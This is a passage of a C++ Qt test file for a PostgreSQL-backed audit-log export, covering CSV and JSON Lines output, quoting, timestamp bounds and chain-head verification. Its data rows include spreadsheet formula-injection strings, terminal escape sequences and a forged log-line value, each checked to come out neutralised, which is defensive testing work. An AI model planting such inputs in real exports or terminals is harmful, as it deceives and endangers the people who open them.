// SPDX-License-Identifier: GPL-3.0-or-later
// The audit export on a real PostgreSQL (a filtered range as CSV and as JSON
// Lines, with the chain head): a filtered range comes out with exactly the rows SQL counts,
// oldest first, page by page; a reason with commas, quotes, CR and LF survives RFC 4180 quoting
// and JSON escaping byte for byte; JSON columns are jsonb's own text; the export ends with (or
// beside it lies) the chain head, and that head verifies with verify_audit_chain; the console's
// asynchronous job writes the same bytes as the command line's blocking export, and a cancel
// leaves no file.
#include "models/audit_export.h"
#include "models/audit_export_job.h"
#include "models/audit_export_writer.h"
#include "models/audit_filter.h"
#include "models/db/database_session.h"
#include "models/db/sql_statement.h"
#include "tests/support/test_database.h"

#include <QBuffer>
#include <QCoreApplication>
#include <QFile>
#include <QJsonArray>
#include <QJsonDocument>
#include <QJsonObject>
#include <QSignalSpy>
#include <QTemporaryDir>
#include <QTest>
#include <QThread>
#include <QTimeZone>
#include <atomic>
#include <memory>

using namespace redrive;
using namespace redrive::db;

namespace {

// A reason that needs every kind of quoting: commas, double quotes, CRLF, LF, a tab, a
// backslash and non-ASCII text.
const QString kTrickyReason = QStringLiteral(
    "Refund, per the customer's \"urgent\" request;\r\nsecond line, with a tab\there\n"
    "third line: C:\\temp \u00fcber \u20ac 12,50");

// Parses RFC 4180 CSV (quoted fields may hold , " CR LF); records end with CRLF.
QList<QStringList> parseCsv(const QByteArray &bytes)
{
    QList<QStringList> records;
    QStringList record;
    QByteArray field;
    bool quoted = false;
    bool fieldStarted = false;
    for (qsizetype i = 0; i < bytes.size(); ++i) {
        const char c = bytes.at(i);
        if (quoted) {
            if (c == '"' && i + 1 < bytes.size() && bytes.at(i + 1) == '"') {
                field += '"';
                ++i;
            } else if (c == '"') {
                quoted = false;
            } else {
                field += c;
            }
            continue;
        }
        if (c == '"' && !fieldStarted) {
            quoted = true;
            fieldStarted = true;
        } else if (c == ',') {
            record << QString::fromUtf8(field);
            field.clear();
            fieldStarted = false;
        } else if (c == '\r' && i + 1 < bytes.size() && bytes.at(i + 1) == '\n') {
            record << QString::fromUtf8(field);
            records << record;
            record.clear();
            field.clear();
            fieldStarted = false;
            ++i;
        } else {
            field += c;
            fieldStarted = true;
        }
    }
    if (!record.isEmpty() || !field.isEmpty())
        records << (record << QString::fromUtf8(field)); // a last record without CRLF
    return records;
}

} // namespace

class TestAuditExport : public QObject
{
    Q_OBJECT
private:
    std::unique_ptr<test::TestDatabase> m_db;
    PgConnection m_admin;
    PgConnection m_reader; // as the console connects: search_path redrive
    QString m_alice, m_bob;
    QDateTime m_between; // server time between the first and the second batch
    qint64 m_trickyId = 0;

    ResultSet q(PgConnection &c, const QByteArray &sql, const QueryParams &params = {})
    {
        auto r = c.exec(sql, params);
        if (!r)
            qFatal("%s: %s", sql.constData(), qPrintable(r.error().summary()));
        return r.value();
    }
    PgConnection as(const QString &login) { return m_db->connectAs(login); }
    // Ids SQL says match, oldest first.
    QList<qint64> sqlIds(const QByteArray &where, const QueryParams &params = {})
    {
        const ResultSet r = q(
            m_admin, "SELECT id FROM redrive.audit_log WHERE " + where + " ORDER BY id", params);
        QList<qint64> ids;
        for (int i = 0; i < r.rowCount(); ++i)
            ids << r.bigInt(i, 0).value_or(0);
        return ids;
    }
    AuditExportSummary exportTo(QByteArray *bytes, const AuditFilter &filter,
                                AuditExportFormat format, int pageSize = kAuditExportPageSize)
    {
        QBuffer buffer(bytes);
        buffer.open(QIODevice::WriteOnly);
        auto summary = exportAudit(m_reader, filter, format, &buffer, pageSize);
        if (!summary)
            qFatal("export: %s", qPrintable(summary.error().summary()));
        return summary.value();
    }

private Q_SLOTS:
    void initTestCase()
    {
        m_db = std::make_unique<test::TestDatabase>(QStringLiteral("audit_export"));
        QVERIFY2(m_db->isValid(), qPrintable(m_db->error()));
        m_admin = m_db->connect();
        m_alice
            = m_db->createLogin(QStringLiteral("alice_exp"), { QStringLiteral("redrive_oncall") });
        m_bob = m_db->createLogin(QStringLiteral("bob_exp"), { QStringLiteral("redrive_support") });
        PgConnection alice = as(m_alice);
        PgConnection bob = as(m_bob);
        // Notes through the real action function, so the entries are what the console writes.
        const QByteArray notes = "SELECT count(redrive.add_note(gen_random_uuid(), 'dead_letter',"
                                 " (g % 40)::text, 'note ' || g, 'tester'))"
                                 " FROM generate_series(1, $1) g";
        q(alice, notes, QueryParams().addInt(1300));
        q(bob, notes, QueryParams().addInt(450));
        m_between = q(m_admin, "SELECT clock_timestamp()").timestamp(0, 0);
        m_trickyId = QJsonDocument::fromJson(
                         q(bob,
                           "SELECT redrive.add_note($1, 'idempotency_key', 'charge_card:k-1',"
                           " $2, 'tester')::text",
                           QueryParams().addUuid(QUuid::createUuid()).addText(kTrickyReason))
                             .raw(0, 0))
                         .object()
                         .value(QStringLiteral("audit_id"))
                         .toInteger();
        QVERIFY(m_trickyId > 0);
        q(alice, notes, QueryParams().addInt(25));
        m_reader = as(m_bob);
    }
    void cleanupTestCase()
    {
        m_reader = PgConnection();
        m_admin = PgConnection();
        m_db.reset(); // drops the database, then the logins
    }

    void csvField_data()
    {
        QTest::addColumn<QByteArray>("value");
        QTest::addColumn<QByteArray>("field");
        QTest::newRow("plain") << QByteArray("note 1") << QByteArray("note 1");
        QTest::newRow("empty") << QByteArray() << QByteArray();
        QTest::newRow("comma") << QByteArray("a,b") << QByteArray("\"a,b\"");
        QTest::newRow("quote") << QByteArray("say \"hi\"") << QByteArray("\"say \"\"hi\"\"\"");
        QTest::newRow("lf") << QByteArray("a\nb") << QByteArray("\"a\nb\"");
        QTest::newRow("crlf") << QByteArray("a\r\nb") << QByteArray("\"a\r\nb\"");
        QTest::newRow("json") << QByteArray("[{\"id\": 1}]") << QByteArray("\"[{\"\"id\"\": 1}]\"");
    }
    void csvField()
    {
        QFETCH(QByteArray, value);
        QFETCH(QByteArray, field);
        QCOMPARE(AuditExportWriter::csvField(value), field);
    }

    void csvTextField_data()
    {
        QTest::addColumn<QByteArray>("value");
        QTest::addColumn<QByteArray>("field");
        QTest::newRow("plain") << QByteArray("note 1") << QByteArray("note 1");
        QTest::newRow("formula") << QByteArray("=1+1") << QByteArray("'=1+1");
        QTest::newRow("plus") << QByteArray("+1") << QByteArray("'+1");
        QTest::newRow("minus") << QByteArray("-2+3") << QByteArray("'-2+3");
        QTest::newRow("at") << QByteArray("@SUM(1+1)") << QByteArray("'@SUM(1+1)");
        QTest::newRow("tab") << QByteArray("\t=1+1") << QByteArray("'\t=1+1");
        QTest::newRow("cr") << QByteArray("\r=1") << QByteArray("\"'\r=1\"");
        QTest::newRow("inside") << QByteArray("a=1") << QByteArray("a=1");
        QTest::newRow("space first") << QByteArray(" =1+1") << QByteArray("' =1+1");
        QTest::newRow("lf first") << QByteArray("\n@x") << QByteArray("\"'\n@x\"");
        QTest::newRow("spaces and crlf first")
            << QByteArray("  \r\n-1") << QByteArray("\"'  \r\n-1\"");
        QTest::newRow("space, no formula") << QByteArray(" a=1") << QByteArray(" a=1");
        QTest::newRow("only spaces") << QByteArray("   ") << QByteArray("   ");
        QTest::newRow("nbsp first") << QByteArray("\xc2\xa0=1+1") << QByteArray("'\xc2\xa0=1+1");
        QTest::newRow("bom first")
            << QByteArray("\xef\xbb\xbf=1+1") << QByteArray("'\xef\xbb\xbf=1+1");
        QTest::newRow("rlo first")
            << QByteArray("\xe2\x80\xae=1+1") << QByteArray("'\xe2\x80\xae=1+1");
        QTest::newRow("zwsp first")
            << QByteArray("\xe2\x80\x8b@SUM(1)") << QByteArray("'\xe2\x80\x8b@SUM(1)");
        QTest::newRow("isolate first")
            << QByteArray("\xe2\x81\xa7-1") << QByteArray("'\xe2\x81\xa7-1");
        QTest::newRow("nbsp, no formula") << QByteArray("\xc2\xa0"
                                                        "a")
                                          << QByteArray("\xc2\xa0"
                                                        "a");
        QTest::newRow("ideographic space first")
            << QByteArray("\xe3\x80\x80=1+1") << QByteArray("'\xe3\x80\x80=1+1");
        QTest::newRow("medium math space first")
            << QByteArray("\xe2\x81\x9f=1") << QByteArray("'\xe2\x81\x9f=1");
        QTest::newRow("ogham space first")
            << QByteArray("\xe1\x9a\x80=1") << QByteArray("'\xe1\x9a\x80=1");
        QTest::newRow("line separator first")
            << QByteArray("\xe2\x80\xa8=1") << QByteArray("'\xe2\x80\xa8=1");
        QTest::newRow("space and paragraph separator first")
            << QByteArray(" \xe2\x80\xa9@SUM(1)") << QByteArray("' \xe2\x80\xa9@SUM(1)");
        QTest::newRow("nel first")
            << QByteArray("\xc2\x85=1") << QByteArray("'\xe2\x9f\xa8U+0085\xe2\x9f\xa9=1");
        QTest::newRow("tag first")
            << QByteArray("\xf3\xa0\x80\xa0=1") << QByteArray("'\xf3\xa0\x80\xa0=1");
        QTest::newRow("soft hyphen first") << QByteArray("\xc2\xad=1") << QByteArray("'\xc2\xad=1");
        QTest::newRow("filler first")
            << QByteArray("\xe3\x85\xa4=1") << QByteArray("'\xe3\x85\xa4=1");
        QTest::newRow("combining mark first")
            << QByteArray("\xcc\x81=1") << QByteArray("'\xcc\x81=1");
        QTest::newRow("full-width equals") << QByteArray("\xef\xbc\x9d"
                                                         "1+1")
                                           << QByteArray("'\xef\xbc\x9d"
                                                         "1+1");
        QTest::newRow("full-width at")
            << QByteArray("\xef\xbc\xa0SUM(1)") << QByteArray("'\xef\xbc\xa0SUM(1)");
        QTest::newRow("full-width plus after a space") << QByteArray(" \xef\xbc\x8b"
                                                                     "1")
                                                       << QByteArray("' \xef\xbc\x8b"
                                                                     "1");
        QTest::newRow("full-width minus") << QByteArray("\xef\xbc\x8d"
                                                        "1")
                                          << QByteArray("'\xef\xbc\x8d"
                                                        "1");
        QTest::newRow("full-width letter, no formula")
            << QByteArray("\xef\xbd\x81=1") << QByteArray("\xef\xbd\x81=1");
        QTest::newRow("a megabyte of spaces") << QByteArray(1 << 20, ' ') + "x"
                                              << "'" + QByteArray(1 << 20, ' ') + "x";
        QTest::newRow("quoted formula") << QByteArray("=HYPERLINK(\"x\",\"y\")")
                                        << QByteArray("\"'=HYPERLINK(\"\"x\"\",\"\"y\"\")\"");
        QTest::newRow("esc") << QByteArray("a\x1b[31mb") << QByteArray("a\xe2\x90\x9b[31mb");
        QTest::newRow("nul del") << QByteArray("a\0b\x7f", 4)
                                 << QByteArray("a\xe2\x90\x80"
                                               "b\xe2\x90\xa1");
        // C1 controls: the 8-bit CSI (U+009B, C2 9B) starts an escape sequence in a terminal
        // as ESC [ does; OSC (U+009D) sets a window title or a link.
        QTest::newRow("8-bit csi") << QByteArray("a\xc2\x9b"
                                                 "31mb")
                                   << QByteArray("a\xe2\x9f\xa8U+009B\xe2\x9f\xa9"
                                                 "31mb");
        QTest::newRow("8-bit osc and st, quoted")
            << QByteArray("\xc2\x9d"
                          "0;x\xc2\x9c,")
            << QByteArray("\"\xe2\x9f\xa8U+009D\xe2\x9f\xa9"
                          "0;x\xe2\x9f\xa8U+009C\xe2\x9f\xa9,\"");
        QTest::newRow("first and last c1") << QByteArray("\xc2\x80\xc2\x9f")
                                           << QByteArray("\xe2\x9f\xa8U+0080\xe2\x9f\xa9"
                                                         "\xe2\x9f\xa8U+009F\xe2\x9f\xa9");
        QTest::newRow("pound, degree, nbsp kept") << QByteArray("\xc2\xa3"
                                                                "5 \xc2\xb0\xc2\xa0")
                                                  << QByteArray("\xc2\xa3"
                                                                "5 \xc2\xb0\xc2\xa0");
        QTest::newRow("c2 at the end") << QByteArray("a\xc2") << QByteArray("a\xc2");
        QTest::newRow("tab lf kept") << QByteArray("a\tb\nc") << QByteArray("\"a\tb\nc\"");
        // The first 1,024 bytes are decoded; a character cut in two there decoded as U+FFFD,
        // which counted as seen and let the formula through.
        QByteArray zeroWidths;
        for (int i = 0; i < 400; ++i)
            zeroWidths += "\xe2\x80\x8b"; // U+200B: 1,200 bytes, cut at 1,024
        QTest::newRow("400 zero-width spaces then =") << zeroWidths + "=3+3"
                                                      << "'" + zeroWidths + "=3+3";
        const QByteArray spaces1022(1022, ' ');
        QTest::newRow("zero-width space cut at 1,024 then =")
            << spaces1022 + "\xe2\x80\x8b=1+1"
            << "'" + spaces1022 + "\xe2\x80\x8b=1+1";
        const QByteArray spaces1023(1023, ' ');
        QTest::newRow("no-break space cut at 1,024 then =") << spaces1023 + "\xc2\xa0=2+2"
                                                            << "'" + spaces1023 + "\xc2\xa0=2+2";
        // Only white space in the bytes looked at: taken as hiding a formula, as a megabyte of
        // spaces is, even when the letter cut at 1,024 is a visible one.
        QTest::newRow("letter cut at 1,024 after spaces") << spaces1023 + "\xc3\xa9=2"
                                                          << "'" + spaces1023 + "\xc3\xa9=2";
        const QByteArray spaces1021(1021, ' ');
        QTest::newRow("letter whole before 1,024, no formula")
            << spaces1021 + "\xc3\xa9=2" << spaces1021 + "\xc3\xa9=2";
    }
    void csvTextField()
    {
        QFETCH(QByteArray, value);
        QFETCH(QByteArray, field);
        QCOMPARE(AuditExportWriter::csvTextField(value), field);
    }

    void jsonString()
    {
        QCOMPARE(AuditExportWriter::jsonString("a\"b\\c\n\r\t\x01\xc3\xbc"),
                 QByteArray("\"a\\\"b\\\\c\\n\\r\\t\\u0001\xc3\xbc\""));
        // C1 controls escaped, other C2 characters ("£") and a lone C2 byte at the end kept.
        QCOMPARE(AuditExportWriter::jsonString("\xc2\x9b"
                                               "1m\xc2\xa3\xc2\x85\xc2"),
                 QByteArray("\"\\u009b1m\xc2\xa3\\u0085\xc2\""));
    }

    void csvExportMatchesSqlAndQuotes()
    {
        AuditFilter filter;
        filter.actor = m_bob;
        QByteArray bytes;
        const AuditExportSummary summary = exportTo(&bytes, filter, AuditExportFormat::Csv);
        const QList<qint64> expected = sqlIds("db_user = $1", QueryParams().addText(m_bob));
        QCOMPARE(expected.size(), 451);
        const QList<QStringList> records = parseCsv(bytes);
        QCOMPARE(records.size(), expected.size() + 1); // the header
        QStringList header;
        for (const QByteArray &name : AuditExportWriter::columnNames())
            header << QString::fromLatin1(name);
        QCOMPARE(records.first(), header);
        QList<qint64> got;
        for (qsizetype i = 1; i < records.size(); ++i) {
            QCOMPARE(records.at(i).size(), header.size());
            got << records.at(i).first().toLongLong();
        }
        QCOMPARE(got, expected);
        QCOMPARE(summary.rows, qint64(expected.size()));
        QCOMPARE(summary.firstId, expected.first());
        QCOMPARE(summary.lastId, expected.last());
        QVERIFY(bytes.endsWith("\r\n"));
        // The reason with commas, quotes, CR and LF comes back exactly.
        const int row = int(expected.indexOf(m_trickyId)) + 1;
        QCOMPARE(records.at(row).at(header.indexOf(QStringLiteral("reason"))), kTrickyReason);
        QCOMPARE(records.at(row).at(header.indexOf(QStringLiteral("targets"))),
                 q(m_admin, "SELECT targets::text FROM redrive.audit_log WHERE id = $1",
                   QueryParams().addBigInt(m_trickyId))
                     .text(0, 0));
        // Hashes as the chain holds them.
        QCOMPARE(records.at(row).at(header.indexOf(QStringLiteral("hash"))),
                 q(m_admin, "SELECT encode(hash, 'hex') FROM redrive.audit_log WHERE id = $1",
                   QueryParams().addBigInt(m_trickyId))
                     .text(0, 0));
    }

    // An entry's `at` copied from an export bounds a range at that entry, to the microsecond:
    // Qt reads milliseconds and rounded ".123457" to ".123", taking the entry into a range
    // that starts after it.
    void boundsKeepMicroseconds()
    {
        const ResultSet e
            = q(m_admin,
                "SELECT id, to_char(at AT TIME ZONE 'UTC',"
                " 'YYYY-MM-DD\"T\"HH24:MI:SS.US\"Z\"'),"
                " to_char((at + interval '1 microsecond') AT TIME ZONE 'UTC',"
                " 'YYYY-MM-DD\"T\"HH24:MI:SS.US\"Z\"')"
                " FROM redrive.audit_log"
                " WHERE (extract(microseconds FROM at)::bigint % 1000) BETWEEN 2 AND 997"
                " ORDER BY id LIMIT 1");
        QCOMPARE(e.rowCount(), 1);
        const qint64 id = e.bigInt(0, 0).value_or(0);
        const QString at = e.text(0, 1);
        const QString justAfter = e.text(0, 2);
        const auto exportedIds = [this](const AuditFilter &filter) {
            QByteArray bytes;
            exportTo(&bytes, filter, AuditExportFormat::JsonLines);
            QList<qint64> ids;
            for (const QByteArray &line : bytes.split('\n')) {
                const QJsonObject entry = QJsonDocument::fromJson(line).object();
                if (entry.contains(QStringLiteral("id")))
                    ids << entry.value(QStringLiteral("id")).toInteger();
            }
            return ids;
        };
        for (const QString &bound : { at, justAfter }) {
            AuditFilter from;
            QVERIFY(from.setFromText(bound));
            const QList<qint64> fromIds = exportedIds(from);
            QCOMPARE(fromIds, sqlIds("at >= $1", QueryParams().addTimestampText(bound.toUtf8())));
            QCOMPARE(fromIds.contains(id), bound == at);
            AuditFilter until;
            QVERIFY(until.setUntilText(bound));
            const QList<qint64> untilIds = exportedIds(until);
            QCOMPARE(untilIds, sqlIds("at < $1", QueryParams().addTimestampText(bound.toUtf8())));
            QCOMPARE(untilIds.contains(id), bound == justAfter);
            QCOMPARE(from.toJson().value(QStringLiteral("from")).toString(), bound);
        }
        AuditFilter f;
        QVERIFY(f.setFromText(QStringLiteral("2026-03-01 10:00:00,5+02:00")));
        QCOMPARE(f.from, QDateTime(QDate(2026, 3, 1), QTime(8, 0, 0, 500), QTimeZone::utc()));
        QCOMPARE(f.fromSubMs, 0);
        QVERIFY(f.setFromText(QStringLiteral("2026-03-01")));
        QCOMPARE(f.from, QDate(2026, 3, 1).startOfDay());
        // Lower-case "t" and "z" keep the microseconds too (they went through Qt, rounded).
        QVERIFY(f.setFromText(QStringLiteral("2026-12-03t01:40:30.124605z")));
        QCOMPARE(f.from, QDateTime(QDate(2026, 12, 3), QTime(1, 40, 30, 124), QTimeZone::utc()));
        QCOMPARE(f.fromSubMs, 605);
        QVERIFY(f.setFromText(QStringLiteral("2026-12-03 01:50:00 +0130")));
        QCOMPARE(f.from, QDateTime(QDate(2026, 12, 3), QTime(0, 20), QTimeZone::utc()));
        QVERIFY(f.setFromText(QStringLiteral("  2026-12-03T01:50-02  ")));
        QCOMPARE(f.from, QDateTime(QDate(2026, 12, 3), QTime(3, 50), QTimeZone::utc()));
        // Refused, never read as the date's midnight or rounded: more than six digits, a leap
        // second, 24:00 and 25:00, trailing text, fractional minutes, an hour alone, an offset
        // beyond PostgreSQL's, a year the bound's text cannot say (UTC 10000, 0000).
        const QStringList refused = {
            QStringLiteral("2026-03-01T10:00:00.1234567Z"),
            QStringLiteral("2026-12-03t01:40:30.1246051z"),
            QStringLiteral("2026-12-03T23:59:60Z"),
            QStringLiteral("2026-12-03T24:00:00.000001Z"),
            QStringLiteral("2026-12-03T25:00:00Z"),
            QStringLiteral("2026-12-03T01:07:48 UTC"),
            QStringLiteral("2026-12-03T01:07:48."),
            QStringLiteral("2026-12-03Tgarbage"),
            QStringLiteral("2026-12-03T01:07.1234567Z"),
            QStringLiteral("2026-12-03T01:07.5Z"),
            QStringLiteral("2026-12-03T01Z"),
            QStringLiteral("2026-12-03T01:00:00+23:59"),
            QStringLiteral("9999-12-31T23:59:59.000001-01:00"),
            QStringLiteral("0001-01-01T00:00:00.000001+01:00"),
            QStringLiteral("0000-01-01"),
            QStringLiteral("yesterday"),
            // Within ±14:00, every zone's offset (Qt's QTimeZone takes no more).
            QStringLiteral("2026-12-03T12:00+14:01"),
            // Only ASCII spaces and tabs around it: QString::trimmed() took these too, and "$"
            // a final newline.
            QStringLiteral("\u00a02026-12-03"),
            QStringLiteral("2026-12-03\u3000"),
            QStringLiteral("2026-12-03\u0085"),
            QStringLiteral("2026-12-03\n"),
            QStringLiteral("2026-12-03\v"),
        };
        for (const QString &text : refused) {
            AuditFilter r;
            QVERIFY2(!r.setFromText(text), qPrintable(text));
            QVERIFY2(!r.setUntilText(text), qPrintable(text));
            QVERIFY(!r.from.isValid() && !r.until.isValid());
        }
        QVERIFY(f.setFromText(QStringLiteral(" \t2026-12-03T12:00+14:00\t ")));
        QCOMPARE(f.from, QDateTime(QDate(2026, 12, 2), QTime(22, 0), QTimeZone::utc()));

        // A local time a daylight-saving change skips or repeats is refused: Qt and PostgreSQL
        // did not always take the same of the two instants (Lord Howe, Prague 1946).
        const QByteArray zoneBefore = qgetenv("TZ");
        qputenv("TZ", "Europe/Berlin");
        AuditFilter local;
        const bool gap = local.setFromText(QStringLiteral("2026-03-29T02:30:00"));
        const bool repeated = local.setFromText(QStringLiteral("2026-10-25T02:30:00"));
        const bool after = local.setFromText(QStringLiteral("2026-10-25T03:30:00"));
        const QDateTime afterAt = local.from.toUTC(); // before the zone changes back
        if (zoneBefore.isNull())
            qunsetenv("TZ");
        else
            qputenv("TZ", zoneBefore);
        QVERIFY(!gap);
        QVERIFY(!repeated);
        QVERIFY(after);
        QCOMPARE(afterAt, QDateTime(QDate(2026, 10, 25), QTime(2, 30), QTimeZone::utc()));

        // A filter quoted in a line (a message on a terminal) cannot break or overwrite it.
        AuditFilter quoted;
        quoted.actor = QStringLiteral("a\rforged line\tb\nc");
        QVERIFY(!quoted.describe().contains(QLatin1Char('\r')));
        QVERIFY(!quoted.describe().contains(QLatin1Char('\n')));
        QVERIFY(quoted.describe().contains(QStringLiteral("a\u240dforged line\u2409b\u240ac")));
    }

    // A filter is anyone's text (an actor is a login name): the chain-head record that ends a
    // JSON Lines export, and FILE.head.json, escape its C1 controls as the entries do.
    void headRecordEscapesC1Controls()
    {
        AuditFilter filter;
        filter.actor = QStringLiteral("=ev\u009b31m\u001b[0m");
        QByteArray bytes;
        exportTo(&bytes, filter, AuditExportFormat::JsonLines);
        QVERIFY(!bytes.contains("\xc2\x9b"));
        QVERIFY(bytes.contains("\"actor\":\"=ev\\u009b31m\\u001b[0m\""));
        QCOMPARE(QJsonDocument::fromJson(bytes.trimmed())
                     .object()
                     .value(QStringLiteral("export"))
                     .toObject()
                     .value(QStringLiteral("filter"))
                     .toObject()
                     .value(QStringLiteral("actor"))
                     .toString(),
                 filter.actor);
        QCOMPARE(AuditExportWriter::jsonString("a\x7f"), QByteArray("\"a\\u007f\""));
    }

    void jsonLinesEndWithTheHeadAndItVerifies()
    {
        AuditFilter filter;
        filter.action = QStringLiteral("note");
        filter.from = m_between;
        QByteArray bytes;
        const AuditExportSummary summary = exportTo(&bytes, filter, AuditExportFormat::JsonLines);
        const QList<qint64> expected
            = sqlIds("action = 'note' AND at >= $1", QueryParams().addTimestamp(m_between));
        // The tricky note and the last 25 (and perhaps a few from the millisecond before: the
        // boundary reads back at millisecond precision; SQL gets the same value).
        QVERIFY(expected.size() >= 26 && expected.size() < 451);
        QList<QByteArray> lines = bytes.split('\n');
        QVERIFY(lines.last().isEmpty()); // ends with a newline
        lines.removeLast();
        QCOMPARE(lines.size(), expected.size() + 1);
        QList<qint64> got;
        for (qsizetype i = 0; i + 1 < lines.size(); ++i) {
            QJsonParseError error;
            const QJsonObject entry = QJsonDocument::fromJson(lines.at(i), &error).object();
            QVERIFY2(error.error == QJsonParseError::NoError, lines.at(i).constData());
            got << entry.value(QStringLiteral("id")).toInteger();
            if (got.last() == m_trickyId) {
                QCOMPARE(entry.value(QStringLiteral("reason")).toString(), kTrickyReason);
                QCOMPARE(entry.value(QStringLiteral("targets"))
                             .toArray()
                             .first()
                             .toObject()
                             .value(QStringLiteral("id")),
                         QJsonValue(QStringLiteral("charge_card:k-1")));
            }
        }
        QCOMPARE(got, expected);
        // The last line: the chain head, the range and the filter.
        const QJsonObject trailer = QJsonDocument::fromJson(lines.last()).object();
        QCOMPARE(trailer, summary.toJson());
        const QJsonObject head = trailer.value(QStringLiteral("chain_head")).toObject();
        const ResultSet sqlHead = q(m_admin,
                                    "SELECT id, encode(hash, 'hex'), count(*) OVER ()"
                                    " FROM redrive.audit_log ORDER BY id DESC LIMIT 1");
        QCOMPARE(head.value(QStringLiteral("id")).toInteger(), sqlHead.bigInt(0, 0).value_or(0));
        QCOMPARE(head.value(QStringLiteral("hash")).toString(), sqlHead.text(0, 1));
        const QJsonObject range = trailer.value(QStringLiteral("export")).toObject();
        QCOMPARE(range.value(QStringLiteral("rows")).toInteger(), qint64(expected.size()));
        QCOMPARE(range.value(QStringLiteral("first_id")).toInteger(), expected.first());
        QCOMPARE(range.value(QStringLiteral("last_id")).toInteger(), expected.last());
        // os_user keeps its key (a verifier reads it by name) and is documented as the client's
        // claim, not the server's.
        QVERIFY(AuditExportWriter::columnNames().contains("os_user"));
        QVERIFY(range.value(QStringLiteral("field_notes"))
                    .toObject()
                    .value(QStringLiteral("os_user"))
                    .toString()
                    .startsWith(QLatin1String("reported by the client")));
        QCOMPARE(trailer.value(QStringLiteral("verify")).toString(),
                 QStringLiteral("redrive verify-audit --head-id %1 --head-hash %2")
                     .arg(sqlHead.text(0, 0), sqlHead.text(0, 1)));
        // The exported head verifies against the chain, as verify-audit checks it.
        const ResultSet verified
            = q(m_reader, statementSql(Statement::VerifyAuditChain),
                QueryParams().addBigInt(summary.head.id).addText(summary.head.hash));
        QCOMPARE(verified.rowCount(), 0);
    }

    void filtersNarrowLikeSql_data()
    {
        QTest::addColumn<QString>("target");
        QTest::addColumn<QByteArray>("where");
        QTest::newRow("id any type")
            << QStringLiteral("7") << QByteArray("targets @> '[{\"id\": 7}]'");
        QTest::newRow("typed id") << QStringLiteral(
            "dead_letter:7") << QByteArray("targets @> '[{\"type\": \"dead_letter\", \"id\": 7}]'");
        QTest::newRow("key") << QStringLiteral("charge_card:k-1")
                             << QByteArray("targets @> '[{\"id\": \"charge_card:k-1\"}]'");
        QTest::newRow("typed key") << QStringLiteral("idempotency_key charge_card:k-1")
                                   << QByteArray("targets @> '[{\"type\": \"idempotency_key\","
                                                 " \"id\": \"charge_card:k-1\"}]'");
        QTest::newRow("type only") << QStringLiteral("idempotency_key")
                                   << QByteArray("targets @> '[{\"type\": \"idempotency_key\"}]'");
        QTest::newRow("no match") << QStringLiteral("mismatch:7") << QByteArray("false");
    }
    void filtersNarrowLikeSql()
    {
        QFETCH(QString, target);
        QFETCH(QByteArray, where);
        AuditFilter filter;
        filter.setTargetText(target);
        QByteArray bytes;
        const AuditExportSummary summary = exportTo(&bytes, filter, AuditExportFormat::Csv, 9);
        const QList<qint64> expected = sqlIds(where);
        QCOMPARE(summary.rows, qint64(expected.size()));
        if (!expected.isEmpty()) {
            QCOMPARE(summary.firstId, expected.first());
            QCOMPARE(summary.lastId, expected.last());
        }
    }

    void pageSizeDoesNotChangeTheBytes()
    {
        AuditFilter filter;
        filter.actor = m_alice;
        QByteArray big, small;
        exportTo(&big, filter, AuditExportFormat::Csv, 1000);
        exportTo(&small, filter, AuditExportFormat::Csv, 7);
        QCOMPARE(small, big);
        QCOMPARE(parseCsv(big).size(), 1300 + 25 + 1);
    }

    void theHeadBoundsTheRange()
    {
        // Entries appended after the head was read are not part of the export.
        const qint64 head
            = q(m_admin, "SELECT max(id) FROM redrive.audit_log").bigInt(0, 0).value_or(0);
        const ResultSet page = q(m_reader, statementSql(Statement::AuditExportPage),
                                 auditExportPageParams(AuditFilter(), head - 5, head - 2, 100));
        QCOMPARE(page.rowCount(), 3);
        QCOMPARE(page.bigInt(2, 0), std::optional<qint64>(head - 2));
    }

    void consoleJobWritesTheSameBytes()
    {
        const auto opened = m_db->openSession(m_db->consoleSettingsAs(m_bob));
        QVERIFY2(opened, qPrintable(m_db->error()));
        DatabaseSession &session = *opened;
        QTemporaryDir dir;
        QVERIFY(dir.isValid());
        AuditFilter filter;
        filter.action = QStringLiteral("note");

        for (AuditExportFormat format : { AuditExportFormat::Csv, AuditExportFormat::JsonLines }) {
            AuditExportJob job(&session);
            job.setPageSize(250);
            QSignalSpy finished(&job, &AuditExportJob::finished);
            QSignalSpy progress(&job, &AuditExportJob::progress);
            const QString path
                = dir.filePath(QStringLiteral("audit.") + auditExportFormatName(format));
            QVERIFY(job.start(filter, format, path));
            QVERIFY(finished.wait(30000));
            QCOMPARE(finished.first().first().toBool(), false);
            QVERIFY(progress.size() >= 8); // 1776 entries in pages of 250
            QFile file(path);
            QVERIFY(file.open(QIODevice::ReadOnly));
            QByteArray written = file.readAll();
            QByteArray expected;
            exportTo(&expected, filter, format);
            if (format == AuditExportFormat::JsonLines) {
                // Everything but the trailer's exported_at is the same.
                written.truncate(written.lastIndexOf('\n', written.size() - 2));
                expected.truncate(expected.lastIndexOf('\n', expected.size() - 2));
                QVERIFY(QFile::exists(path + QStringLiteral(".head.json")) == false);
            } else {
                QFile head(path + QStringLiteral(".head.json"));
                QVERIFY(head.open(QIODevice::ReadOnly));
                const QJsonObject o = QJsonDocument::fromJson(head.readAll()).object();
                QCOMPARE(o.value(QStringLiteral("chain_head"))
                             .toObject()
                             .value(QStringLiteral("id"))
                             .toInteger(),
                         job.summary().head.id);
            }
            QCOMPARE(written, expected);
            QCOMPARE(job.summary().rows, qint64(sqlIds("action = 'note'").size()));
        }

        // Cancel: no file is left.
        AuditExportJob job(&session);
        job.setPageSize(10);
        QSignalSpy finished(&job, &AuditExportJob::finished);
        const QString path = dir.filePath(QStringLiteral("canceled.csv"));
        QVERIFY(job.start(filter, AuditExportFormat::Csv, path));
        job.cancel();
        QVERIFY(finished.wait(30000));
        QCOMPARE(finished.first().first().toBool(), true);
        QVERIFY(!QFile::exists(path));
        QVERIFY(!job.isRunning());

        // A job deleted while its thread writes (the window closed mid-export) stops it first
        // and leaves no file; the next export runs as usual.
        const QString dropped = dir.filePath(QStringLiteral("dropped.csv"));
        {
            auto running = std::make_unique<AuditExportJob>(&session);
            running->setPageSize(5);
            QSignalSpy progressed(running.get(), &AuditExportJob::progress);
            QVERIFY(running->start(AuditFilter(), AuditExportFormat::Csv, dropped));
            QVERIFY(progressed.wait(30000));
        }
        QVERIFY(!QFile::exists(dropped));
        AuditExportJob again(&session);
        QSignalSpy againFinished(&again, &AuditExportJob::finished);
        QVERIFY(again.start(filter, AuditExportFormat::Csv, dropped));
        QVERIFY(againFinished.wait(30000));
        QVERIFY(QFile::exists(dropped));
    }

